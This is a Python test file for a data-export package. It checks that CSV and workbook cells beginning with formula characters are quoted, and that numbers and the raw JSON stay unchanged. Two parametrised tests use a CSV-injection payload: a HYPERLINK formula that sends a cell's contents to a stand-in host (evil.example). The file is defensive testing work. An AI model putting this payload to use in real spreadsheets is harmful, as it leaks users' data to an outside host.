"""Formula injection (OWASP "CSV Injection"): no cell of a package's CSV files or workbook starts
a formula.

Text starting with =, +, -, @, tab or carriage return gets a single quote in front, wherever it
stands (a field, a nested field, a list, a list's own file, a record id, a column name); real
numbers stay numbers; data.json keeps the values exactly as the system gave them.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from bridge.core.models import DataPackage, Record, SourceResult, Status, Subject
from exports import write_package
from exports.cells import FORMULA_STARTS, formula_safe, sheet_cell

PSEUDONYM = "0123abcd" * 8
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _package(records: list[Record]) -> DataPackage:
    return DataPackage(
        subject=Subject(email="jan@example.nl"),
        generated_at=datetime(2025, 3, 14, 9, 26, 53, tzinfo=UTC),
        complete=True,
        sources=[SourceResult(system="shop", status=Status.ok, records=records)],
    )


def _rows(tmp_path: Path, records: list[Record], name: str) -> tuple[list[dict[str, str]], dict]:
    path = write_package(_package(records), tmp_path / "out", pseudonym=PSEUDONYM)
    with zipfile.ZipFile(path) as archive:
        text = archive.read(f"csv/shop/{name}.csv").decode("utf-8-sig")
        data = json.loads(archive.read("data.json"))
    return list(csv.DictReader(io.StringIO(text, newline=""))), data


def test_the_rule_is_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert formula_safe("jan") == "jan" and formula_safe("") == ""
    assert formula_safe(" =1") == " =1"  # only the first character counts


@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_leading_character_is_neutralised_in_the_package(tmp_path: Path, start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"klik")'
    record = Record(
        type="order",
        id=f"{start}1042",
        matched_by=[f"{start}email"],
        data={
            "note": payload,
            "billing": {"city": f"{start}Zwolle"},
            "tags": [f"{start}vip", "nieuwsbrief"],
            f"{start}field": "plain",
            "total": "59.95",
            "lines": [{"name": payload}],
        },
    )
    rows, data = _rows(tmp_path, [record], "order")
    (line,), _ = _rows(tmp_path / "again", [record], "order-lines")
    assert line["name"] == f"'{payload}" and line["id"] == f"'{start}1042"
    (row,) = rows
    assert row["note"] == f"'{payload}"
    assert row["billing.city"] == f"'{start}Zwolle"
    assert row["tags"] == f"'{start}vip | nieuwsbrief"
    assert row["id"] == f"'{start}1042"
    assert row["matched_by"] == f"'{start}email"
    assert row[f"'{start}field"] == "plain"  # a column name is a cell too
    assert row["total"] == "59.95" and row["system"] == "shop"
    assert all(not value.startswith(tuple(STARTS)) for value in [*row, *row.values()])
    # The data itself is untouched: only the spreadsheet's cells carry the quote.
    assert data["sources"][0]["records"][0]["data"]["note"] == payload


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text(tmp_path: Path) -> None:
    record = Record(
        type="refund",
        id="7",
        matched_by=["order 1042"],
        data={
            "amount": -5,
            "fee": -0.25,
            "text_amount": "-5",
            "count": 3,
            "ok": True,
            "values": [-1, 2],
            "nested": {"delta": -12.5},
        },
    )
    (row,), _ = _rows(tmp_path, [record], "refund")
    assert row["amount"] == "-5"  # a real negative number: a spreadsheet reads -5
    assert row["fee"] == "-0.25"
    assert row["nested.delta"] == "-12.5"
    assert row["text_amount"] == "'-5"  # the vendor sent text
    assert row["values"] == "'-1 | 2"  # a list is one cell of text
    assert (row["count"], row["ok"]) == ("3", "true")


def test_sheet_cell_keeps_empty_and_plain_values() -> None:
    assert sheet_cell(None) is None
    assert sheet_cell("Zwolle") == "Zwolle"
    assert sheet_cell(-5) == "-5" and sheet_cell("-5") == "'-5"
    assert sheet_cell(False) == "false"


@pytest.mark.parametrize("start", STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_no_workbook_cell_is_a_formula(tmp_path: Path, start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"klik")'
    record = Record(
        type="order",
        id=f"{start}1042",
        matched_by=["email"],
        data={"note": payload, f"{start}field": 1, "lines": [{"name": payload}]},
    )
    path = write_package(_package([record]), tmp_path / "out", pseudonym=PSEUDONYM)
    with zipfile.ZipFile(path) as archive:
        book = openpyxl.load_workbook(io.BytesIO(archive.read("data.xlsx")))
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(cell.data_type != "f" for cell in texts)
    assert all(not cell.value.startswith(tuple(STARTS)) for cell in texts)
    quoted = [c.value for c in texts if c.value.startswith("'") and "HYPERLINK" in c.value]
    assert len(quoted) == 2  # the record's note and its line's name (XML reads a CR as LF)
